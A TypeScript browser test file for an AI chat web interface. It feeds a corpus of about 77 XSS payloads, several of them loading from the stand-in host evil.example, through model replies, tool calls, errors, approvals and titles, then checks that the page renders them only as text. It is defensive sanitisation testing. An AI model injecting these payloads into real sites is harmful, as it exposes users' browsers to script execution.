import { tool, type Policy } from '@treadle/core';
import { scriptedModel, type ScriptStep } from '@treadle/core/testing';
import type { Page } from 'playwright-core';
import { afterAll, describe, expect, test } from 'vitest';
import { needs } from '../needs.ts';
import { startInProcess } from '../server/support/in-process.ts';
import { chromiumNeed, launch, openPage } from './browser.ts';

/** Each would call `alert`, load something from elsewhere, or put a foreign element into the page, if it became markup. */
const CORPUS: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT>alert(1)</SCRIPT >',
  '<script\n>alert(1)</script\n>',
  '<script type="module">import("https://evil.example/x.js")</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/p.png">',
  '<img srcset="https://evil.example/p.png 2x">',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img/src=`x`/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>click</text></a></svg>',
  '<svg><use href="https://evil.example/x.svg#a"></use></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><maction actiontype="statusline#https://evil.example" href="javascript:alert(1)">x</maction></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<video><source onerror=alert(1)></video>',
  '<video poster="https://evil.example/p.png"></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<form action="https://evil.example"><button>Approve</button></form>',
  '<button formaction="javascript:alert(1)">Approve</button>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/p.png)">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="data:text/html,<script>alert(1)</script>">click</a>',
  '<a href="vbscript:alert(1)">click</a>',
  '<p id="main" name="getElementById" class="ask"><button class="button primary">Approve</button></p>',
  '<form id=x tabindex=0 onfocus=alert(1)><input name=attributes></form>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](<javascript:alert(1)>)',
  '[click](java\tscript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1))',
  '[a]: javascript:alert(1)\n\n[a]',
  '![x](https://evil.example/p.png)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](x)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '[x](https://evil.example/" onmouseover="alert(1))',
  '<javascript:alert(1)>',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [c](javascript:alert(1)) |',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '<xss onclick="alert(1)" tabindex=1>x</xss>',
];

const launched = await launch();

const echo = tool({
  name: 'echo',
  description: 'Echoes',
  effect: 'pure',
  execute(input) {
    const { text } = input as { text: string };
    const source = { type: 'data', data: Buffer.from(text).toString('base64') } as const;
    return {
      content: [
        { type: 'text', text },
        { type: 'image', mediaType: 'image/png', name: text, source },
        { type: 'file', mediaType: text, name: text, source },
      ],
    };
  },
});
/** Refuses calls, with the attack as the reason and the rule. */
const policy: Policy = {
  judge: (calls) =>
    calls.map(({ name, input }) => {
      const { text } = input as { text: string };
      return name === 'deny' ? { type: 'deny', reason: text, rule: text } : { type: 'allow' };
    }),
};
const deny = tool({ name: 'deny', description: 'Is denied', execute: () => '' });
const fail = tool({
  name: 'fail',
  description: 'Fails',
  execute: (input) => {
    throw new Error((input as { text: string }).text);
  },
});
const pay = tool({
  name: 'pay',
  description: 'Pays',
  needsApproval: true,
  touches: (input) => [{ type: 'command', command: (input as { command: string }).command }],
  execute: () => 'paid',
});
const asks = tool({
  name: 'asks',
  description: 'Asks',
  execute: async (input, { ask }) =>
    String(await ask({ prompt: (input as { text: string }).text, choices: [(input as { text: string }).text] })),
});

/** What is in the page and must not be there. */
async function foreignElements(page: Page): Promise<string[]> {
  return await page.evaluate(() => {
    const found: string[] = [];
    if (document.querySelectorAll('script').length > 1) found.push('script');
    for (const element of document.querySelectorAll('body *')) {
      const where = element.outerHTML.slice(0, 120);
      if (
        /^(script|iframe|object|embed|style|link|meta|base|math|video|audio|marquee|template|xss)$/i.test(
          element.tagName,
        )
      )
        found.push(where);
      if (
        element.closest('.markdown, .bubble') &&
        /^(svg|form|input|select|textarea)$/i.test(element.tagName) &&
        !element.closest('button')
      )
        found.push(where);
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name) || (name === 'style' && element.closest('.markdown'))) found.push(where);
        if (
          /^(href|src|action|formaction|data)$/i.test(name) &&
          !/^(#|https?:|mailto:|blob:|\.?\/assets\/|data:image\/(png|jpeg|gif|webp))/i.test(value)
        )
          found.push(where);
        if (name === 'srcset' || name === 'srcdoc') found.push(where);
      }
    }
    return found;
  });
}

describe.runIf(needs(...chromiumNeed(launched)))(`${CORPUS.length} attacks on the page`, () => {
  afterAll(async () => {
    if ('browser' in launched) await launched.browser.close();
  });

  test('through texts, reasoning, names, arguments, results, decisions, errors, files and titles do nothing', async () => {
    expect(new Set(CORPUS).size).toBeGreaterThanOrEqual(60);
    const usage = { inputTokens: 1, outputTokens: 1 };
    const script = CORPUS.flatMap((attack, index): ScriptStep[] => [
      {
        type: 'reply',
        content: [
          { type: 'reasoning', text: attack },
          { type: 'text', text: attack },
          { type: 'tool-call', id: `a${index}`, name: 'echo', arguments: JSON.stringify({ text: attack }) },
          { type: 'tool-call', id: `b${index}`, name: attack, arguments: attack },
          { type: 'tool-call', id: `c${index}`, name: 'fail', arguments: JSON.stringify({ text: attack }) },
          { type: 'tool-call', id: `d${index}`, name: 'deny', arguments: JSON.stringify({ text: attack }) },
        ],
        finish: 'tool-calls',
        usage,
        model: attack,
      },
      index % 8 === 0
        ? { type: 'failure', error: { code: 'invalid-request', message: attack, retryable: false } }
        : `${attack}\n\n${attack} in a sentence ${attack}`,
    ]);
    const tools = [echo, fail, deny];
    await using server = await startInProcess(scriptedModel(script), {
      tools,
      policy,
      defaultTools: tools.map(({ name }) => name),
    });
    let id: string | undefined;
    for (const attack of CORPUS) {
      const body = {
        ...(id !== undefined && { conversation_id: id }),
        message: attack,
        attachments: [
          { name: attack.slice(0, 100).replaceAll(/[\n\t\0]/g, ' '), media_type: 'text/plain', data: btoa('x') },
        ],
        on_disconnect: 'continue',
      };
      const answer = await fetch(`${server.url}/v1/chat`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify(body),
      });
      const text = await answer.text();
      id ??= /conv_[0-9a-f]+/.exec(text)![0];
      expect(text).toContain('"type":"done"');
      const branch = await server.send('POST', `/v1/chat/${id}/branch`, { message_id: /msg_\w+_user/.exec(text)![0] });
      await server.send('PATCH', `/v1/chat/${branch.body.id}`, { title: attack.slice(0, 200) });
    }
    await server.send('PATCH', `/v1/chat/${id}`, { title: CORPUS[0]! });

    await using opened = await openPage(launched, `${server.url}/#/chat/${id}`);
    const { page } = opened;
    await page.waitForFunction((count) => document.querySelectorAll('.answer').length === count, CORPUS.length);
    await page.getByRole('button', { name: 'Show more' }).click();
    await page.waitForFunction((count) => document.querySelectorAll('.conversations li').length > count, CORPUS.length);
    await page.evaluate(() => {
      for (const details of document.querySelectorAll('details')) details.open = true;
    });
    // Everything is shown, as text.
    expect(await page.locator('.call').count()).toBe(4 * CORPUS.length);
    expect(await page.locator('.call .decision').count()).toBe(CORPUS.length);
    expect(await page.locator('.call-body .attachment').count()).toBe(CORPUS.length);
    expect(await page.locator('.bubble .attachment').count()).toBe(CORPUS.length);
    await page.waitForFunction(
      (count) => document.querySelectorAll('.reasoning .markdown').length === count,
      CORPUS.length,
    );
    expect(await page.locator('.call .result').first().textContent()).toBe(CORPUS[0]);
    expect(await page.locator('.call-name').nth(1).textContent()).toBe(CORPUS[0]);
    expect(await page.title()).toContain('<script>alert(1)</script>');
    expect(await foreignElements(page)).toEqual([]);
    expect(await page.getByRole('button', { name: 'Approve', exact: true }).count()).toBe(0);
  });

  test('through streamed texts, approvals and questions do nothing', async () => {
    // A reply has at most 128 calls.
    const calls = [
      ...CORPUS.map((attack) => ({ name: 'pay', arguments: { command: attack, [attack]: attack } })),
      ...CORPUS.slice(0, 128 - CORPUS.length).map((attack) => ({ name: 'asks', arguments: { text: attack } })),
    ];
    const whole = CORPUS.join('\n\n');
    const tools = [pay, asks];
    await using server = await startInProcess(scriptedModel([{ text: whole, calls }]), {
      tools,
      defaultTools: tools.map(({ name }) => name),
    });
    await using opened = await openPage(launched, server.url);
    const { page } = opened;
    await page.getByRole('textbox', { name: 'Message' }).fill('Attack');
    await page.keyboard.press('Enter');
    await page.waitForFunction((count) => document.querySelectorAll('.ask').length === count, calls.length);
    expect(await page.locator('.command').first().textContent()).toBe(CORPUS[0]);
    expect(await foreignElements(page)).toEqual([]);
    expect(await page.getByRole('button', { name: 'Approve', exact: true }).count()).toBe(CORPUS.length);
  });
});
